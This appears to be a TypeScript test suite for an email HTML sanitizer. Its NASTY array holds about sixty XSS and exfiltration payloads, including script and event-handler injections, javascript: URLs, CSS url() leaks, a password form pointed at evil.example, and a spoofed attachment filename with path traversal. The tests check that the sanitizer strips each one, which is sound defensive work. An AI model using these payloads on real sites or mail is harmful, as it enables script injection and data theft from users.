/** Hostile mail, shown: nothing runs, nothing is fetched, nothing leaves its place. */

import assert from 'node:assert/strict';
import { test } from 'node:test';
import {
  HTML_CHARACTERS_MAX,
  leavesOf,
  partsOf,
  shownParts,
} from '../../../../runtime/console/documents/body-parts.js';
import { htmlDocument, textOfHtml } from '../../../../runtime/console/documents/html-document.js';
import { harmlessStyle } from '../../../../runtime/console/documents/html-style.js';
import type { Part } from '../../../../schemas/umf.js';

const html = (text: string): Part => ({ mediaType: 'text/html', text });

function shown(text: string, more: { parts?: readonly Part[]; remote?: boolean } = {}) {
  const { parts = [], remote = false } = more;
  const root: Part = { mediaType: 'multipart/related', parts: [html(text), ...parts] };
  const given = { leaves: leavesOf(root), remote };
  const document = htmlDocument(shownParts(root, 'html'), given);
  assert.ok(document);
  const [, body = ''] = document.html.split('</head><body>');
  return { ...document, body };
}

const NASTY: readonly string[] = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror = "alert(1)" onload=\'alert(1)\'>',
  '<img/src="x"/onerror=alert(1)>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#x6A;avascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="blob:https://x/1">x</a>',
  '<a href="/api/raw?key=msg/1">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<form action="https://evil.example"><input name=password><button>Go</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
  '<base href="https://evil.example/"><a href="x">x</a>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<link rel=dns-prefetch href="//evil.example">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<style>@import url(https://evil.example/x.css);</style>',
  '<style>input[value^=a]{background:url(https://evil.example/a)}</style>',
  '<p style="background:url(https://evil.example/a)">x</p>',
  '<p style="background:u\\72l(https://evil.example/a)">x</p>',
  '<p style="background:url/**/(https://evil.example/a)">x</p>',
  '<p style="background-image:image-set(\'https://evil.example/a\' 1x)">x</p>',
  '<p style="color:red;position:fixed;top:0;left:0;width:9999px">x</p>',
  '<p style="position:absolute">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<p style="behavior:url(x.htc);-moz-binding:url(x.xml#x)">x</p>',
  '<p style="color:red}</style><script>alert(1)</script>">x</p>',
  '<table background="https://evil.example/a"><tr><td background="//evil.example/b">x</table>',
  '<img srcset="https://evil.example/a 1x" src="https://evil.example/b">',
  '<img src="//evil.example/a">',
  '<picture><source srcset="https://evil.example/a"><img></picture>',
  '<video poster="https://evil.example/a" src="https://evil.example/b"></video>',
  '<audio src="https://evil.example/a" autoplay></audio>',
  '<bgsound src="https://evil.example/a">',
  '<input type=image src="https://evil.example/a">',
  '<body onload=alert(1) background="https://evil.example/a">x',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="data:text/html;base64,PHNjcmlwdD4=">',
  '<template><img src=x onerror=alert(1)></template>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<title></title><img src=x onerror=alert(1)>',
  '<textarea></textarea><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script>',
  '<a id=x name=parent class=y href=https://ok.example ping=https://evil.example>x</a>',
  '<div contenteditable autofocus onfocus=alert(1) tabindex=1>x</div>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<p title="&quot; onmouseover=alert(1) x=&quot;">x</p>',
  '<p title=\'" onmouseover="alert(1)\'>x</p>',
];

/** What of a document could run, send, fetch or lead somewhere unasked. */
const ELEMENTS = new RegExp(
  `<(?:${[
    'audio|base|bgsound|button|embed|form|frame|iframe|input|link|math|meta|noscript|object',
    'script|source|style|svg|template|textarea|video',
  ].join('|')})\\b`,
  'i',
);
const ALLOWED = new Set(
  `align alt bgcolor border cellpadding cellspacing color colspan dir face height href lang nowrap
   rel rowspan size span src start style target title type valign value width`.split(/\s+/),
);

function attributesOf(body: string): string[] {
  const tags = body.match(/<[a-z][^>"]*(?:"[^"]*"[^>"]*)*>/gi) ?? [];
  return tags.flatMap((tag) => [...tag.matchAll(/\s([^\s="]+)="/g)].map(([, name = '']) => name));
}

test('of a nasty corpus nothing is left that could run, send or fetch', () => {
  for (const nasty of NASTY) {
    const { body } = shown(`<p>before</p>${nasty}<p>after</p>`);
    assert.doesNotMatch(body, ELEMENTS, nasty);
    for (const name of attributesOf(body)) assert.ok(ALLOWED.has(name), `${name} of ${nasty}`);
    const sources = [...body.matchAll(/src="([^"]*)"/g)].map(([, src]) => src);
    assert.deepEqual(sources, [], nasty);
    const links = [...body.matchAll(/href="([^"]*)"/g)].map(([, href]) => href);
    for (const href of links) assert.match(href ?? '', /^https:\/\/ok\.example/, nasty);
    assert.doesNotMatch(body, /style="[^"]*(?:url|position|expression|behavior|@|\\)/i, nasty);
    assert.match(body, /before/, nasty);
  }
});

test('cleaning what is clean changes nothing', () => {
  const clean = (text: string) => shown(text).body.split('</body>')[0]?.trim() ?? '';
  for (const nasty of NASTY) {
    // The order of attributes settles with the second time.
    const once = clean(clean(nasty));
    assert.equal(clean(once), once, nasty);
  }
});

test('links open elsewhere and tell nothing of here', () => {
  const { body } = shown('<a href="https://ok.example/a?b=1&c=2" target=_top rel=opener>x</a>');
  assert.match(body, /href="https:\/\/ok\.example\/a\?b=1&amp;c=2"/);
  assert.match(body, /target="_blank"/);
  assert.match(body, /rel="noopener noreferrer nofollow ugc"/);
  assert.doesNotMatch(body, /_top|rel="opener/);
  assert.match(shown('<a href="mailto:a@b.example">x</a>').body, /href="mailto:a@b\.example"/);
});

test('remote pictures are counted, and shown when asked for', () => {
  const mail = '<img src="https://ok.example/1.png"><img src="//ok.example/2.png"><img src="x">';
  assert.equal(shown(mail).remote, 2);
  assert.doesNotMatch(shown(mail).body, /ok\.example/);
  const asked = shown(mail, { remote: true });
  assert.equal(asked.remote, 2);
  assert.match(asked.body, /src="https:\/\/ok\.example\/1\.png"/);
  assert.match(asked.body, /src="https:\/\/ok\.example\/2\.png"/);
});

test('pictures within the message are shown as data, bounded, never SVG', () => {
  const picture = { mediaType: 'image/png', contentId: 'a@b', bytes: Buffer.from('PNG') };
  const drawing = { mediaType: 'image/svg+xml', contentId: 'c@d', bytes: Buffer.from('<svg/>') };
  const huge = { mediaType: 'image/png', contentId: 'e@f', bytes: Buffer.alloc(5 * 2 ** 20) };
  const parts = [picture, drawing, huge];
  const { body, remote } = shown(
    '<img src="cid:a%40b"><img src="cid:c@d"><img src="cid:e@f"><img src="cid:unknown">',
    { parts },
  );
  const sources = [...body.matchAll(/src="([^"]*)"/g)].map(([, src]) => src);
  assert.deepEqual(sources, [`data:image/png;base64,${Buffer.from('PNG').toString('base64')}`]);
  assert.equal(remote, 0);
});

test('what is too large or too deep is text alone; what is deep loses its form', () => {
  const nested = (times: number) => `${'<div>'.repeat(times)}deep${'</div>'.repeat(times)}`;
  for (const text of ['x'.repeat(HTML_CHARACTERS_MAX + 1), nested(20_000), '<b>'.repeat(80_000)]) {
    const large = html(text);
    assert.equal(htmlDocument([large], { leaves: [large], remote: false }), undefined);
  }
  assert.equal(textOfHtml(nested(20_000)), 'deep');
  const deep = shown(nested(300));
  assert.match(deep.body, /deep/);
  assert.equal(deep.body.split('<div>').length, 201);
});

test('styles keep what dresses, and lose what fetches or moves', () => {
  const kept =
    'color:#333;font-family:"Helvetica Neue", Arial;padding:0 4px;width:calc(100% - 4px)';
  assert.equal(harmlessStyle(kept), kept);
  assert.equal(harmlessStyle('background: #fff; Color : RED'), 'background-color:#fff;color:RED');
  const lost = [
    'background:url(x)',
    'font-family:"a;b',
    'color:red/**/',
    'margin:url(x)',
    'cursor:url(x)',
    'content:"x"',
    'z-index:9',
    'transform:scale(9)',
    'color:\\72 ed',
    'unicode-bidi:bidi-override',
    `color:${'a'.repeat(5000)}`,
  ];
  for (const style of lost) {
    const left = harmlessStyle(style);
    assert.ok(!left.includes('('), `${style} → ${left}`);
    assert.doesNotMatch(left, /cursor|content|z-index|transform|\\|bidi|font|\/|aaaa/);
  }
});

test('HTML reads as text with its lines, without scripts and styles', () => {
  const text = textOfHtml(
    '<style>p{}</style><h1>Hello &amp; <b>you</b></h1><p>One<br>two</p>\n<ul><li>a<li>b</ul>' +
      '<script>x</script><p>1 &lt; 2</p>',
  );
  assert.equal(text, 'Hello & you\n\nOne\ntwo\n\na\n\nb\n\n1 < 2');
});

test('of alternatives the page gets the text and the frame the HTML; files are parts', () => {
  const plain = { mediaType: 'text/plain', text: 'plain' };
  const picture = { mediaType: 'image/png', contentId: 'a@b', bytes: Buffer.from('PNG') };
  const file: Part = {
    mediaType: 'text/html',
    text: '<script>x</script>',
    disposition: 'attachment',
    filename: '..\\..\\in\u202efdp.exe',
  };
  const body: Part = {
    mediaType: 'multipart/mixed',
    parts: [
      {
        mediaType: 'multipart/alternative',
        parts: [
          plain,
          { mediaType: 'multipart/related', parts: [html('<img src="cid:a@b">'), picture] },
        ],
      },
      file,
      { mediaType: 'text/plain', text: 'footer' },
    ],
  };
  const texts = (purpose: 'text' | 'html') => shownParts(body, purpose).map(({ text }) => text);
  assert.deepEqual(texts('text'), ['plain', 'footer']);
  assert.deepEqual(texts('html'), ['<img src="cid:a@b">', 'footer']);
  assert.deepEqual(partsOf(body), [
    { index: 3, name: '_.._infdp.exe', mediaType: 'text/html', bytes: 18 },
  ]);
});
